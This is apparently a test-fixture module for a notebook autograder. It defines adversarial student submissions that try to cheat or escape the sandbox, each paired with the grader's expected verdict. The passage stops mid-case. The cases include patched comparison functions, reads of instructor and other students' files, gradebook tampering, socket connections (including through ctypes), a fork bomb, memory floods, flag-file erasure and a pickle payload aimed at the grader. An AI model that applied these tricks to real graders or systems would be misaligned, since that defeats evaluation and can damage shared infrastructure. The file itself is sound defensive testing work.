"""An adversarial corpus for `lstmkit grade`, built from the real source notebooks of assignments/.

`make_course(folder, cases)` copies the course (source notebooks, nbgrader_config.py) into `folder`, makes
the release notebooks with `nbgrader generate_assignment` and submits one notebook per case as
`submitted/<case name>/<assignment>/<assignment>.ipynb`. Every case starts from the instructor's
solution (honest) or the release notebook (stubs) and changes one thing; `CASES` lists them with what
`lstmkit grade` must report:

- `points`: grade_id -> points for every auto-graded test cell of the assignment;
- `status`: ok, error, timeout, memory, crashed or flagged (see helpers/grader_contract.md);
- `reason`: substrings that must all appear in the CSV's reason (empty tuple: the reason is empty).

Cases that try to reach the outside world use a `Context`: the course folder (the cheats know its
absolute path, the worst case), the port of a TCP listener the test started on 127.0.0.1 and a folder
for side effects that must never appear (a marker file, a marked orphan process).
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import numpy as np

from lstmkit import grading

ROOT = Path(__file__).resolve().parents[1]
COURSE = ROOT / "assignments"
ASSIGNMENTS = ("gates", "bptt", "pytorch", "sequences")

# The auto-graded test cells of each source notebook, in notebook order, with their points.
POINTS = grading.POINTS
# Manually graded cells (in nbgrader's gradebook, not in the CSV).
MANUAL_POINTS = {"gates": 3, "bptt": 3, "pytorch": 0, "sequences": 3}


@dataclass
class Context:
    """What a case may refer to: the course copy, the listener's port, a folder for forbidden side effects."""

    course: Path
    port: int
    marks: Path
    unix: str = ""  # a Unix socket the test listens on, in a folder the sandbox can see (read-only)

    def source(self, assignment):
        return nbformat.read(self.course / "source" / assignment / f"{assignment}.ipynb", 4)

    def release(self, assignment):
        return nbformat.read(self.course / "release" / assignment / f"{assignment}.ipynb", 4)


@dataclass(frozen=True)
class Case:
    name: str
    assignment: str
    build: Callable[[Context], nbformat.NotebookNode]
    points: dict
    status: str
    reason: tuple = ()
    doc: str = ""
    tags: frozenset = field(default_factory=frozenset)


# ----------------------------------------------------------------------------- notebook edits


def cell(nb, grade_id):
    found = [c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id]
    assert len(found) == 1, f"no single cell {grade_id}"
    return found[0]


def set_source(nb, grade_id, text):
    cell(nb, grade_id).source = textwrap.dedent(text).strip()
    return nb


def replace(nb, grade_id, old, new):
    c = cell(nb, grade_id)
    assert old in c.source, f"{old!r} not in cell {grade_id}"
    c.source = c.source.replace(old, new)
    return nb


def prepend(nb, grade_id, text):
    c = cell(nb, grade_id)
    c.source = textwrap.dedent(text).strip() + "\n\n" + c.source
    return nb


def append(nb, grade_id, text):
    c = cell(nb, grade_id)
    c.source = c.source + "\n\n" + textwrap.dedent(text).strip()
    return nb


def full(assignment, **override):
    """Expected points: full marks except the given grade_ids."""
    points = dict(POINTS[assignment])
    for k, v in override.items():
        assert k in points, k
        points[k] = v
    return points


def zero(assignment, *grade_ids):
    return full(assignment, **{g: 0 for g in grade_ids})


def all_zero(assignment):
    return zero(assignment, *POINTS[assignment])


NO_TANH = ("h = o * np.tanh(c)", "h = o * c")  # a wrong cell_forward with the right shapes


def no_tanh(ctx):
    return replace(ctx.source("gates"), "cell_forward", *NO_TANH)


def gates_cell_forward(body, fmt=True):
    """gates with cell_forward replaced by `def cell_forward(x, state, params):` + body (others honest,
    no plot).
    With fmt, {course}, {root}, {port}, {marks} and {unix} in body are filled in (write {{ }} for braces)."""

    def build(ctx):
        text = "def cell_forward(x, state, params):\n" + textwrap.indent(
            textwrap.dedent(body).strip(), "    "
        )
        if fmt:
            text = text.format(course=ctx.course, root=ROOT, port=ctx.port, marks=ctx.marks, unix=ctx.unix)
        nb = set_source(ctx.source("gates"), "cell_forward", text)
        # the plot cell calls cell_forward while the cells run: leave it out, so that only the check calls it
        return set_source(nb, "plot_remember", "print('no plot')")

    return build


# ----------------------------------------------------------------------------- the cases

CASES: list[Case] = []


def case(name, assignment, points, status, reason=(), doc="", tags=()):
    def register(build):
        CASES.append(Case(name, assignment, build, points, status, tuple(reason), doc, frozenset(tags)))
        return build

    return register


# --- baselines


@case("honest", "gates", full("gates"), "ok", doc="the instructor's solution", tags={"dask", "bench"})
def _(ctx):
    return ctx.source("gates")


@case(
    "blank",
    "gates",
    all_zero("gates"),
    "error",
    ["test_sigmoid:", "NotImplementedError"],
    doc="the release notebook as handed out",
    tags={"dask"},
)
def _(ctx):
    return ctx.release("gates")


@case(
    "wrong_no_tanh",
    "gates",
    zero("gates", "test_cell_forward"),
    "ok",
    ["test_cell_forward: h looks like o * c"],
    doc="h = o * c: the check's own hint",
    tags={"dask", "bench"},
)
def _(ctx):
    return no_tanh(ctx)


@case("honest_bptt", "bptt", full("bptt"), "ok", doc="the instructor's solution")
def _(ctx):
    return ctx.source("bptt")


@case("blank_bptt", "bptt", all_zero("bptt"), "error", ["test_cell_backward:", "NotImplementedError"])
def _(ctx):
    return ctx.release("bptt")


@case("honest_pytorch", "pytorch", full("pytorch"), "ok", doc="the instructor's solution (trains ~600 steps)")
def _(ctx):
    return ctx.source("pytorch")


@case("blank_pytorch", "pytorch", all_zero("pytorch"), "error", ["test_cell:", "NotImplementedError"])
def _(ctx):
    return ctx.release("pytorch")


# --- patching the checking machinery inside the student's process (with a wrong cell_forward)

WRONG_PARTS = dict(
    points=zero("gates", "test_cell_forward"), status="ok", reason=["test_cell_forward: h looks like o * c"]
)


@case("patch_assert_allclose", "gates", **WRONG_PARTS, doc="np.testing.assert_allclose, np.allclose no-ops")
def _(ctx):
    return append(
        no_tanh(ctx),
        "cell_forward",
        """
        import numpy
        numpy.testing.assert_allclose = lambda *args, **kwargs: None
        numpy.allclose = lambda *args, **kwargs: True
        np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, bool)
    """,
    )


@case(
    "patch_norm",
    "gates",
    **WRONG_PARTS,
    doc="np.linalg.norm -> 0 makes every relative error 0",
    tags={"nbgrader_full_marks"},
)
def _(ctx):
    return append(no_tanh(ctx), "cell_forward", "np.linalg.norm = lambda *args, **kwargs: 0.0")


@case(
    "patch_builtins_float",
    "gates",
    **WRONG_PARTS,
    doc="builtins.float -> 0.0 while the test of cell_forward runs (restored in the plot cell)",
)
def _(ctx):
    nb = append(
        no_tanh(ctx),
        "cell_forward",
        """
        import builtins
        _real_float = builtins.float

        class _Meta(type):
            def __instancecheck__(cls, obj):
                return isinstance(obj, _real_float)

        class _ZeroFloat(_real_float, metaclass=_Meta):
            def __new__(cls, value=0.0):
                return _real_float.__new__(cls, 0.0)

        builtins.float = _ZeroFloat
    """,
    )
    return prepend(nb, "plot_remember", "import builtins\nbuiltins.float = _real_float")


@case("patch_grading_checks", "gates", **WRONG_PARTS, doc="grading.check_cell_forward replaced by a no-op")
def _(ctx):
    return append(no_tanh(ctx), "cell_forward", "grading.check_cell_forward = lambda *args, **kwargs: True")


@case(
    "input_transformer",
    "gates",
    all_zero("gates"),
    "error",
    ["test_sigmoid:", "NotImplementedError"],
    doc="release stubs + an IPython input transformer that turns every later cell into `pass`",
    tags={"nbgrader_full_marks", "dask"},
)
def _(ctx):
    return prepend(
        ctx.release("gates"),
        "sigmoid",
        """
        try:
            get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
        except NameError:
            pass
    """,
    )


# --- test cells and nbgrader metadata in the student's copy


@case("edit_test_cell", "gates", **WRONG_PARTS, doc="test_cell_forward's source replaced by `pass`")
def _(ctx):
    return set_source(no_tanh(ctx), "test_cell_forward", "pass")


@case("delete_test_cells", "gates", **WRONG_PARTS, doc="every test cell deleted")
def _(ctx):
    nb = no_tanh(ctx)
    nb.cells = [
        c
        for c in nb.cells
        if not c.get("metadata", {}).get("nbgrader", {}).get("grade_id", "").startswith("test_")
    ]
    return nb


@case("metadata_points", "gates", **WRONG_PARTS, doc="every test cell worth 100 points in the student's copy")
def _(ctx):
    nb = no_tanh(ctx)
    for c in nb.cells:
        meta = c.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 100
    return nb


@case(
    "metadata_fake_cells",
    "gates",
    full("gates"),
    "ok",
    doc="test cells renamed and a new 50-point test cell: the CSV keeps the source's columns and maximum",
)
def _(ctx):
    nb = ctx.source("gates")
    for c in nb.cells:
        meta = c.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade_id", "").startswith("test_"):
            meta["grade_id"] += "_renamed"
    bonus = nbformat.v4.new_code_cell(
        "pass",
        metadata={
            "nbgrader": {
                "grade": True,
                "grade_id": "test_bonus",
                "locked": True,
                "points": 50,
                "schema_version": 3,
                "solution": False,
                "task": False,
            }
        },
    )
    bonus.id = "test_bonus"
    nb.cells.append(bonus)
    return nb


@case(
    "edit_given_cell",
    "gates",
    zero("gates", "test_sigmoid"),
    "error",
    ["test_sigmoid:", "_ref_sigmoid"],
    doc="the locked imports cell edited to import the reference's sigmoid; the grader runs the instructor's "
    "(gate_activations and cell_forward, which call sigmoid, are graded with the grader's sigmoid too)",
)
def _(ctx):
    nb = append(ctx.source("gates"), "imports", "from lstmkit.reference import sigmoid as _ref_sigmoid")
    return set_source(
        nb,
        "sigmoid",
        """
        def sigmoid(z):
            return _ref_sigmoid(z)
    """,
    )


# --- reading and writing course files


FLAGGED_CF = dict(points=zero("gates", "test_cell_forward"), status="flagged", reason=["test_cell_forward:"])


@case(
    "read_source",
    "gates",
    **FLAGGED_CF,
    doc="cell_forward reads source/gates/gates.ipynb and runs its solution",
)
def _(ctx):
    return gates_cell_forward("""
        import json
        for path in ["{course}/source/gates/gates.ipynb", "../../../source/gates/gates.ipynb",
                     "../../source/gates/gates.ipynb"]:
            try:
                with open(path) as f:
                    nb = json.load(f)
                break
            except OSError:
                pass
        else:
            raise RuntimeError("cannot read the source notebook")
        code = [c for c in nb["cells"] if c["metadata"].get("nbgrader", {{}}).get("grade_id")
                == "cell_forward"]
        scope = dict(globals())
        exec("".join(code[0]["source"]), scope)
        return scope["cell_forward"](x, state, params)
    """)(ctx)


@case(
    "read_other_student", "gates", **FLAGGED_CF, doc="cell_forward copied at run time from student `honest`"
)
def _(ctx):
    return gates_cell_forward("""
        import json
        with open("{course}/submitted/honest/gates/gates.ipynb") as f:
            nb = json.load(f)
        code = [c for c in nb["cells"] if c["metadata"].get("nbgrader", {{}}).get("grade_id")
                == "cell_forward"]
        scope = dict(globals())
        exec("".join(code[0]["source"]), scope)
        return scope["cell_forward"](x, state, params)
    """)(ctx)


@case("write_gradebook", "gates", **FLAGGED_CF, doc="adds a student to gradebook.db (sqlite), then gives up")
def _(ctx):
    return gates_cell_forward("""
        import sqlite3
        try:
            db = sqlite3.connect("{course}/gradebook.db")
            db.execute("INSERT INTO student (id) VALUES ('planted_by_cheat')")
            db.commit()
            db.close()
        except Exception:
            pass
        raise NotImplementedError
    """)(ctx)


@case("write_source", "gates", **FLAGGED_CF, doc="appends to the source notebook and to another submission")
def _(ctx):
    return gates_cell_forward("""
        for path in ["{course}/source/gates/gates.ipynb", "{course}/submitted/honest/gates/gates.ipynb"]:
            try:
                with open(path, "a") as f:
                    f.write("tampered")
            except OSError:
                pass
        raise NotImplementedError
    """)(ctx)


# --- the network


@case(
    "network_localhost", "gates", **FLAGGED_CF, doc="connects to a listener on 127.0.0.1 started by the test"
)
def _(ctx):
    return gates_cell_forward("""
        import socket
        try:
            with socket.create_connection(("127.0.0.1", {port}), timeout=5) as s:
                s.sendall(repr(x.tolist()).encode())
        except OSError:
            pass
        raise NotImplementedError
    """)(ctx)


@case("network_public", "gates", **FLAGGED_CF, doc="connects to a public address (1.1.1.1:80)")
def _(ctx):
    return gates_cell_forward("""
        import socket
        try:
            with socket.create_connection(("1.1.1.1", 80), timeout=3) as s:
                s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        except OSError:
            pass
        raise NotImplementedError
    """)(ctx)


@case(
    "unix_socket",
    "gates",
    zero("gates", "test_cell_forward"),
    "flagged",
    ["test_cell_forward:", "local (Unix) socket"],
    doc="connects to a Unix socket of the host (visible read-only, which does not stop connect())",
)
def _(ctx):
    return gates_cell_forward("""
        import os, socket
        if not os.path.exists("{unix}"):
            raise RuntimeError("the test's socket is not visible: this case tests nothing")
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.connect("{unix}")
                s.sendall(b"hello")
        except OSError:
            pass
        raise NotImplementedError
    """)(ctx)


@case(
    "unix_socket_ctypes",
    "gates",
    zero("gates", "test_cell_forward"),
    "error",
    ["test_cell_forward:", "NotImplementedError"],
    doc="the same through libc (no audit event): only the seccomp filter stops it",
)
def _(ctx):
    return gates_cell_forward("""
        import ctypes, os
        if not os.path.exists("{unix}"):
            raise RuntimeError("the test's socket is not visible: this case tests nothing")
        libc = ctypes.CDLL(None)
        fd = libc.socket(1, 1, 0)  # AF_UNIX, SOCK_STREAM
        if fd >= 0:
            path = b"{unix}"
            address = ctypes.create_string_buffer(2 + 108)
            address[0:2 + len(path)] = (1).to_bytes(2, "little") + path
            libc.connect(fd, address, 2 + 108)
        raise NotImplementedError
    """)(ctx)


# --- answers from the reference


@case(
    "reference_cell_forward",
    "gates",
    **FLAGGED_CF,
    doc="from lstmkit.reference import cell_forward",
    tags={"dask", "bench"},
)
def _(ctx):
    return set_source(
        ctx.source("gates"),
        "cell_forward",
        """
        from lstmkit.reference import cell_forward as _ref_cell_forward


        def cell_forward(x, state, params):
            return _ref_cell_forward(x, state, params)
    """,
    )


@case(
    "reference_dunder_import",
    "gates",
    zero("gates", "test_gate_preactivations", "test_cell_forward"),
    "flagged",
    ["test_gate_preactivations:"],
    doc="__import__('lstmkit.ref' + 'erence').gate_preactivations",
)
def _(ctx):
    return set_source(
        ctx.source("gates"),
        "gates",
        cell(ctx.source("gates"), "gates").source.replace(
            'return x @ params["weight_ih"].T + params["bias_ih"] + h_prev @ params["weight_hh"].T'
            ' + params["bias_hh"]',
            'mod = __import__("lstmkit.ref" + "erence", fromlist=["gate_" + "preactivations"])\n'
            '    return getattr(mod, "gate_" + "preactivations")(x, h_prev, params)',
        ),
    )


@case(
    "grader_substitute",
    "gates",
    zero("gates", "test_gate_activations", "test_cell_forward"),
    "flagged",
    ["test_gate_activations:", "comes from the grader"],
    doc="gate_activations takes the grader's own version (used to grade later parts) from the sandbox's "
    "modules, past the static scan",
)
def _(ctx):
    return set_source(ctx.source("gates"), "gates", cell(ctx.source("gates"), "gates").source.replace(
        "    # Hint: H = a.shape[1] // 4",
        "    import sys\n"
        "    theirs = sys.modules['_lstmkit' + '_run'].SUBSTITUTES['gate' + '_activations']\n"
        "    return theirs(a)\n"
        "    # Hint: H = a.shape[1] // 4"))


@case("lstmkit_torch_importlib", "gates", **FLAGGED_CF, doc="importlib.import_module('lstmkit' + '.torch')")
def _(ctx):
    return gates_cell_forward("""
        import importlib
        import torch
        lt = importlib.import_module("".join(["lstm", "kit", ".", "torch"]))
        cell = lt.LSTMCell(x.shape[1], state[0].shape[1]).double()
        with torch.no_grad():
            for k in ("weight_ih", "weight_hh", "bias_ih", "bias_hh"):
                getattr(cell, k).copy_(torch.from_numpy(params[k]))
            h, c = cell(torch.from_numpy(x), (torch.from_numpy(state[0]), torch.from_numpy(state[1])))
        return (h.numpy(), c.numpy()), {{}}
    """)(ctx)


@case("torch_nn_lstmcell", "gates", **FLAGGED_CF, doc="torch.nn.LSTMCell in the NumPy assignment")
def _(ctx):
    return gates_cell_forward("""
        import torch
        cell = torch.nn.LSTMCell(x.shape[1], state[0].shape[1]).double()
        with torch.no_grad():
            for k in ("weight_ih", "weight_hh", "bias_ih", "bias_hh"):
                getattr(cell, k).copy_(torch.from_numpy(params[k]))
            h, c = cell(torch.from_numpy(x), (torch.from_numpy(state[0]), torch.from_numpy(state[1])))
        return (h.numpy(), c.numpy()), {{}}
    """)(ctx)


@case("torch_fused_importlib", "gates", **FLAGGED_CF, doc="torch's fused lstm_cell via importlib and getattr")
def _(ctx):
    return gates_cell_forward("""
        import importlib
        t = importlib.import_module("tor" + "ch")
        fused = getattr(t, "lstm_" + "cell")
        args = [t.from_numpy(params[k]) for k in ("weight_ih", "weight_hh", "bias_ih", "bias_hh")]
        h, c = fused(t.from_numpy(x), [t.from_numpy(state[0]), t.from_numpy(state[1])], *args)
        return (h.numpy(), c.numpy()), {{}}
    """)(ctx)


@case(
    "reference_by_path", "gates", **FLAGGED_CF, doc="executes the repository's lstmkit/reference.py by path"
)
def _(ctx):
    return gates_cell_forward("""
        scope = {{"__name__": "stolen_reference"}}
        with open("{root}/lstmkit/reference.py") as f:
            exec(compile(f.read(), "reference.py", "exec"), scope)
        return scope["cell_forward"](x, state, params)
    """)(ctx)


@case(
    "reference_sys_path",
    "gates",
    **FLAGGED_CF,
    doc="drops the sandbox's stand-in lstmkit from sys.modules/sys.path and imports the real one",
)
def _(ctx):
    return gates_cell_forward("""
        import importlib
        import sys
        for name in [m for m in sys.modules if m == "lstmkit" or m.startswith("lstmkit.")]:
            del sys.modules[name]
        sys.path[:] = [p for p in sys.path if p and p != "." and "tmp" not in p] + ["{root}"]
        importlib.invalidate_caches()
        ref = importlib.import_module("lstmkit.reference")
        return ref.cell_forward(x, state, params)
    """)(ctx)


@case(
    "reference_erase_flag",
    "gates",
    **FLAGGED_CF,
    doc="calls the reference, then empties every file it can find whose name contains 'flag'",
)
def _(ctx):
    return gates_cell_forward("""
        import glob
        import os
        import lstmkit
        try:
            return lstmkit.reference.cell_forward(x, state, params)
        finally:
            paths = [getattr(lstmkit, "FLAGS", "")] + glob.glob("**/*flag*", recursive=True)
            here = os.path.dirname(getattr(lstmkit, "__file__", ""))
            paths += glob.glob(os.path.join(here, "..", "*flag*"))
            for path in paths:
                try:
                    open(path, "w").close()
                except OSError:
                    pass
    """)(ctx)


@case(
    "reference_bptt",
    "bptt",
    zero("bptt", "test_cell_backward", "test_backward"),
    "flagged",
    ["test_cell_backward:"],
    doc="cell_backward from lstmkit.reference (backward uses it)",
)
def _(ctx):
    return set_source(
        ctx.source("bptt"),
        "cell_backward",
        """
        import lstmkit.reference


        def cell_backward(dstate, cache):
            return lstmkit.reference.cell_backward(dstate, cache)
    """,
    )


@case(
    "gradcheck_bptt",
    "bptt",
    zero("bptt", "test_numerical_gradient"),
    "flagged",
    ["test_numerical_gradient:"],
    doc="numerical_gradient from lstmkit.gradcheck",
)
def _(ctx):
    nb = set_source(
        ctx.source("bptt"),
        "numerical_gradient",
        """
        def numerical_gradient(f, x, eps=1e-5):
            from lstmkit.gradcheck import numerical_gradient as _ng
            return _ng(f, x, eps)
    """,
    )
    return set_source(nb, "use_gradcheck", "print('checked elsewhere')")


@case(
    "torch_lstm_cell_pytorch",
    "pytorch",
    all_zero("pytorch"),
    "flagged",
    ["test_cell:", "test_layer:", "test_adding:", "lstm_cell"],
    doc="lstm_step calls torch's fused torch.lstm_cell; the layer and the training reuse it",
)
def _(ctx):
    return replace(
        ctx.source("pytorch"),
        "cell",
        "    a = x @ weight_ih.T + bias_ih + h_prev @ weight_hh.T + bias_hh\n",
        "    return torch.lstm_cell(x, (h_prev, c_prev), weight_ih, weight_hh, bias_ih, bias_hh)\n",
    )


@case(
    "lstmkit_torch_pytorch",
    "pytorch",
    zero("pytorch", "test_layer", "test_adding"),
    "flagged",
    ["test_layer:", "test_adding: the mean squared error"],
    doc="the layer wraps lstmkit.torch.LSTM; predict is untrained (ones)",
)
def _(ctx):
    nb = set_source(
        ctx.source("pytorch"),
        "layer",
        """
        class LSTM(nn.Module):
            def __init__(self, input_size, hidden_size):
                super().__init__()
                from lstmkit.torch import LSTM as _Theirs
                inner = _Theirs(input_size, hidden_size)
                for name, p in inner.named_parameters():
                    setattr(self, name, p)
                self._inner = [inner]

            def forward(self, xs, state=None):
                return self._inner[0](xs, state)
    """,
    )
    return set_source(
        nb,
        "train",
        """
        def predict(xs):
            return np.ones(xs.shape[1])
    """,
    )


# --- the sequences assignment: the reference, torch's clipping and fused norm, patched comparisons. Only the
# honest case trains (a few seconds); the others return untrained models, which lose test_training.

UNTRAINED = """
curves = {}


def train_models():
    return {cell: CharModel(len(ECHO_CHARS), 8, 32, cell) for cell in ("lstm", "rnn")}
"""


def sequences_untrained(ctx):
    return set_source(ctx.source("sequences"), "train", UNTRAINED)


def sequences_clip(body):
    """sequences (untrained), clip_grad_norm replaced by `def clip_grad_norm(params, max_norm):` + body."""

    def build(ctx):
        text = textwrap.indent(textwrap.dedent(body).strip(), "    ")
        text = "def clip_grad_norm(params, max_norm):\n" + text
        return set_source(sequences_untrained(ctx), "clip", text)

    return build


@case("honest_sequences", "sequences", full("sequences"), "ok",
      doc="the instructor's solution (trains 2 x 1120 steps)")
def _(ctx):
    return ctx.source("sequences")


@case("blank_sequences", "sequences", all_zero("sequences"), "error",
      ["test_clip_grad_norm:", "NotImplementedError"])
def _(ctx):
    return ctx.release("sequences")


@case(
    "sequences_reference_import",
    "sequences",
    zero("sequences", "test_masked_cross_entropy", "test_training"),
    "flagged",
    ["test_masked_cross_entropy:", "lstmkit.sequences", "test_training: the LSTM's validation loss"],
    doc="masked_cross_entropy from lstmkit.sequences (the reference); the other parts honest",
)
def _(ctx):
    return set_source(sequences_untrained(ctx), "masked", """
        def masked_cross_entropy(logits, targets, lengths):
            from lstmkit.sequences import masked_cross_entropy as theirs
            return theirs(logits, targets, lengths)
    """)


@case(
    "sequences_reference_dynamic",
    "sequences",
    zero("sequences", "test_sample_next", "test_training"),
    "flagged",
    ["test_sample_next:", "lstmkit.sequences comes from the reference"],
    doc="sample_next from lstmkit.sequences through importlib and a computed name (no static trace)",
)
def _(ctx):
    return set_source(sequences_untrained(ctx), "sample", """
        def sample_next(logits, temperature, generator):
            import importlib
            module = importlib.import_module(".".join(["lstm" + "kit", "seq" + "uences"]))
            return module.sample_next(logits, temperature, generator)
    """)


SEQ_CLIP_FLAGGED = zero("sequences", "test_clip_grad_norm", "test_train_tbptt", "test_training")
case("sequences_torch_clip", "sequences", SEQ_CLIP_FLAGGED, "flagged",
     ["test_clip_grad_norm:", "torch.nn.utils.clip_grad_norm_ is off limits", "test_train_tbptt:"],
     doc="clip_grad_norm calls torch.nn.utils.clip_grad_norm_ (train_tbptt calls it: flagged too)")(
    sequences_clip("return torch.nn.utils.clip_grad_norm_(params, max_norm)"))
case("sequences_torch_clip_by_name", "sequences", SEQ_CLIP_FLAGGED, "flagged",
     ["test_clip_grad_norm:", "clip_grad_norm_ is off limits"],
     doc="clip_grad_norm_ imported by another name inside the function")(
    sequences_clip("""
        from torch.nn.utils import clip_grad as cg
        fn = getattr(cg, "clip_grad_" + "norm_")
        return fn(params, max_norm)
    """))
case("sequences_foreach_norm", "sequences", SEQ_CLIP_FLAGGED, "flagged",
     ["test_clip_grad_norm:", "torch._foreach_norm is off limits"],
     doc="the global norm from torch's fused torch._foreach_norm")(
    sequences_clip("""
        grads = [p.grad for p in params if p.grad is not None]
        norm = torch.linalg.vector_norm(torch.stack(torch._foreach_norm(grads)))
        for g in grads:
            g.mul_(min(1.0, max_norm / (float(norm) + 1e-6)))
        return norm
    """))


@case(
    "sequences_patched_comparisons",
    "sequences",
    zero("sequences", "test_masked_cross_entropy", "test_training"),
    "ok",
    ["test_masked_cross_entropy: the padded steps count in your loss"],
    doc="padding counted in the loss; np.linalg.norm, np.allclose, torch.allclose and torch.equal patched",
)
def _(ctx):
    nb = replace(sequences_untrained(ctx), "masked", "(nll * mask).sum() / mask.sum()", "nll.mean()")
    return append(nb, "masked", """
        np.linalg.norm = lambda *args, **kwargs: 0.0
        np.allclose = lambda *args, **kwargs: True
        torch.allclose = lambda *args, **kwargs: True
        torch.equal = lambda *args, **kwargs: True
    """)


# --- hard-coded answers


@case(
    "hardcoded_visible",
    "gates",
    zero("gates", "test_cell_forward"),
    "ok",
    ["test_cell_forward: next c"],
    doc="cell_forward returns the visible examples' outputs (seeds 0 and 1) and zeros otherwise",
)
def _(ctx):
    from lstmkit import grading
    from lstmkit import reference as ref

    table = {}
    for seed in (0, 1):
        inputs = grading.CHECKS["cell_forward"].make_inputs(seed)
        (h, c), _ = ref.cell_forward(inputs["x"], (inputs["h_prev"], inputs["c_prev"]), inputs["params"])
        table[repr(np.round(inputs["x"], 6).tolist())] = (h.tolist(), c.tolist())
    return gates_cell_forward(
        f"""
        answers = {table!r}
        key = repr(np.round(x, 6).tolist())
        if key in answers:
            h, c = answers[key]
            return (np.array(h), np.array(c)), {{}}
        return (np.zeros_like(state[0]), np.zeros_like(state[1])), {{}}
    """,
        fmt=False,
    )(ctx)


# --- failure modes (in cell_forward, called by the last check; the other parts are honest)


@case(
    "infinite_loop",
    "gates",
    zero("gates", "test_cell_forward"),
    "timeout",
    ["test_cell_forward:"],
    tags={"dask"},
)
def _(ctx):
    return gates_cell_forward("""
        while True:
            pass
    """)(ctx)


@case(
    "ignore_signals",
    "gates",
    zero("gates", "test_cell_forward"),
    "timeout",
    ["test_cell_forward:"],
    doc="ignores SIGINT/SIGTERM/SIGALRM/SIGXCPU and swallows KeyboardInterrupt in a busy loop",
)
def _(ctx):
    return gates_cell_forward("""
        import signal
        for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU, signal.SIGHUP):
            signal.signal(sig, signal.SIG_IGN)
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
    """)(ctx)


@case(
    "sleep_forever",
    "gates",
    zero("gates", "test_cell_forward"),
    "timeout",
    ["test_cell_forward:"],
    doc="sleeps (no CPU): only the wall-clock limit stops it",
)
def _(ctx):
    return gates_cell_forward("""
        import time
        time.sleep(100000)
    """)(ctx)


@case(
    "cell_backward_never_returns",
    "bptt",
    zero("bptt", "test_cell_backward"),
    "timeout",
    ["test_cell_backward: did not finish within the time limit of one call"],
    doc="cell_backward loops forever; backward calls it and keeps its points with the grader's cell_backward",
)
def _(ctx):
    return replace(ctx.source("bptt"), "cell_backward", "    dc = dc + dh * o * (1 - tanh_c ** 2)\n",
                   "    while True:\n        pass\n    dc = dc + dh * o * (1 - tanh_c ** 2)\n")


@case(
    "memory_hog",
    "gates",
    zero("gates", "test_cell_forward"),
    "memory",
    ["test_cell_forward:"],
    doc="allocates 400 MB blocks (at most 24) and touches them",
)
def _(ctx):
    return gates_cell_forward("""
        blocks = []
        for _ in range(24):
            blocks.append(np.ones(50_000_000))
        return (blocks[0], blocks[1]), {{}}
    """)(ctx)


@case(
    "memory_in_forks",
    "gates",
    all_zero("gates"),
    "memory",
    ["test_sigmoid:", "processes together used more than the memory limit"],
    doc="four forked processes touch 400 MB each: every one is under the per-process limit, together "
    "they are over the sandbox's limit; the whole child is then suspect, so every part is 0",
)
def _(ctx):
    return gates_cell_forward("""
        import os
        pids = []
        for _ in range(4):
            pid = os.fork()
            if pid == 0:
                block = np.ones(50_000_000)
                os._exit(0 if block.sum() > 0 else 1)
            pids.append(pid)
        for pid in pids:
            os.waitpid(pid, 0)
        h_prev, c_prev = state  # then the honest step: without a limit on the total, full marks
        i, f, g, o = gate_activations(gate_preactivations(x, h_prev, params))
        c = f * c_prev + i * g
        h = o * np.tanh(c)
        return (h, c), dict(x=x, h_prev=h_prev, c_prev=c_prev, i=i, f=f, g=g, o=o, params=params)
    """, fmt=False)(ctx)


@case(
    "fork_bomb",
    "gates",
    all_zero("gates"),
    "crashed",
    ["test_sigmoid:", "process"],
    doc="forks until the process limit (at most 400 sleeping children: a missing limit cannot hang the "
    "host); the whole child is then suspect, so every part is 0",
)
def _(ctx):
    return gates_cell_forward("""
        import os
        import time
        for _ in range(400):
            if os.fork() == 0:
                time.sleep(120)
                os._exit(0)
        raise NotImplementedError
    """)(ctx)


@case(
    "output_flood",
    "gates",
    all_zero("gates"),
    "crashed",
    ["test_sigmoid:", "output"],
    doc="prints without end to stdout and stderr; the whole child is then suspect, so every part is 0",
)
def _(ctx):
    return gates_cell_forward("""
        import sys
        line = "flood " * 2000
        while True:
            print(line)
            print(line, file=sys.stderr)
    """)(ctx)


@case(
    "os_exit", "gates", zero("gates", "test_cell_forward"), "crashed", ["test_cell_forward:"], tags={"dask"}
)
def _(ctx):
    return gates_cell_forward("""
        import os
        os._exit(0)
    """)(ctx)


@case("sys_exit", "gates", zero("gates", "test_cell_forward"), "crashed", ["test_cell_forward:"])
def _(ctx):
    return gates_cell_forward("""
        import sys
        sys.exit(0)
    """)(ctx)


@case("segfault", "gates", zero("gates", "test_cell_forward"), "crashed", ["test_cell_forward:"])
def _(ctx):
    return gates_cell_forward("""
        import ctypes
        ctypes.string_at(0)
    """)(ctx)


@case(
    "huge_file",
    "gates",
    zero("gates", "test_cell_forward"),
    "crashed",
    ["test_cell_forward:"],
    doc="writes up to 2 GB into its working folder in 1 MB chunks",
)
def _(ctx):
    return gates_cell_forward("""
        chunk = b"\\0" * (1 << 20)
        with open("huge.bin", "wb") as f:
            for _ in range(2048):
                f.write(chunk)
        raise NotImplementedError
    """)(ctx)


@case(
    "exit_while_defining",
    "gates",
    zero("gates", "test_sigmoid"),
    "crashed",
    ["test_sigmoid:", "cell sigmoid was left out: the Python process exited"],
    doc="os._exit at the top level of the first solution cell, after sigmoid is defined: the grader starts "
    "again without that cell, so only the part that needs it loses its points",
)
def _(ctx):
    return append(ctx.source("gates"), "sigmoid", "import os\nos._exit(3)")


@case(
    "pickle_output",
    "gates",
    zero("gates", "test_cell_forward"),
    "ok",
    ["test_cell_forward: next h should be a float array"],
    doc="returns object arrays whose unpickling would create a marker file in the trusted process",
)
def _(ctx):
    return gates_cell_forward("""
        class Payload:
            def __reduce__(self):
                return (open, ("{marks}/unpickled_in_grader", "w"))

        evil = np.array([Payload(), Payload()], dtype=object)
        return (evil, evil), {{"evil": evil}}
    """)(ctx)


@case(
    "orphan_process",
    "gates",
    full("gates"),
    "ok",
